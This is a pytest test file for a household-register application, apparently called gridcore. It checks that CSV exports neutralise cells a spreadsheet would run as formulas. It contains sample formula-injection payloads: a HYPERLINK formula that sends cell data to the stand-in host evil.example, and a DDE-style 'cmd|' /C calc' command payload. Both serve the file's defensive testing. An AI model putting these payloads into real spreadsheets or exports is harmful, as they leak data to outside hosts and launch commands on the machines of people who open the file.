"""Formula-like cells (CSV injection): imported values are stored as typed, and every CSV
gridcore writes neutralises text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from adapters.cli import cli
from adapters.kek import KEK_FILE_ENV
from adapters.settings import sqlite_env
from adapters.spreadsheet import csv_writer, safe_cell
from gridcore.application import GridcoreApp
from gridcore.household import household_id, resident_id
from tests.application.test_import import HEADER, given_grid

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
GOOD_ID = "420102194803120116"


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK), (AT_SUM, "'" + AT_SUM), ("+1+cmd", "'+1+cmd"),
    ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("张三", "张三"), ("a=b", "a=b"), ("", ""),
    ("-3", "-3"), ("+86", "+86"), ("-3.5", "-3.5"), ("1e5", "1e5"),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_only_text_that_would_run_as_a_formula_is_neutralised(value, written):
    assert safe_cell(value) == written


def test_the_safe_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    w = csv_writer(out)
    w.writerow(["name", HYPERLINK, -1])
    w.writerows([[AT_SUM, 2], ["ok", "-4"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "'" + HYPERLINK, "-1"], ["'" + AT_SUM, "2"], ["ok", "-4"]]


def test_no_csv_is_written_around_the_safe_writer():
    """Every CSV output of src/ and simulations/ goes through adapters.spreadsheet, but the
    API's streamed line lists (graphql_api/exports.py: the API imports no adapter), which take
    every cell through the same rule, gridcore.text.safe_cell."""
    offenders = []
    for folder in ("src", "simulations", "projections"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path.name == "spreadsheet.py" or not re.search(
                    r"csv\.(writer|DictWriter)\(|\.to_csv\(|openpyxl\.Workbook\(", text):
                continue
            if path.relative_to(ROOT).as_posix() == "src/graphql_api/exports.py" \
                    and "from gridcore.text import safe_cell" in text:
                continue
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.fixture
def store(tmp_path, monkeypatch) -> Path:
    db = tmp_path / "gridcore.sqlite"
    kek = str(tmp_path / "gridcore.kek")
    app = GridcoreApp({**sqlite_env(db), KEK_FILE_ENV: kek})
    given_grid(app)
    app.close()
    monkeypatch.setenv("GRIDCORE_STORE", "sqlite")
    monkeypatch.setenv("GRIDCORE_SQLITE_PATH", str(db))
    monkeypatch.setenv(KEK_FILE_ENV, kek)
    monkeypatch.setenv("COLUMNS", "160")
    return db


def test_an_imported_formula_is_stored_as_typed_and_neutralised_in_the_error_report(
        store, tmp_path):
    register = tmp_path / "register.csv"
    with register.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)  # the office's own file, formulas and all
        w.writerow(HEADER)
        w.writerow(["F-1", "420102001712-01", "1", "幸福路1号101", HYPERLINK, "13812345678",
                    GOOD_ID, "1948", ""])
        w.writerow(["F-2", "420102001712-01", "1", "幸福路1号102", AT_SUM, "12345", "", "1950",
                    ""])
    report = tmp_path / "errors.csv"
    result = CliRunner().invoke(cli, ["import", "households", str(register),
                                      "--good-rows-only", "--errors-csv", str(report)])
    assert result.exit_code == 1, result.output
    assert "1 errors written to" in result.output

    app = GridcoreApp(sqlite_env(store))
    stored = app.household(household_id("F-1")).residents[resident_id("F-1", 1)]
    assert stored.identity.name == HYPERLINK  # stored exactly as typed
    app.close()

    assert stat.S_IMODE(report.stat().st_mode) == 0o600  # the cells are personal data
    with report.open(encoding="utf-8-sig", newline="") as f:
        header, *errors = list(csv.reader(f))
    assert header[:3] == ["行 row", "列 column", "原因 reason"] and header[3:] == HEADER
    [error] = errors
    assert error[0] == "3" and "电话" in error[1]
    assert error[3 + HEADER.index("姓名")] == "'" + AT_SUM
    assert not any(cell.startswith(("=", "+", "@")) for row in errors for cell in row)
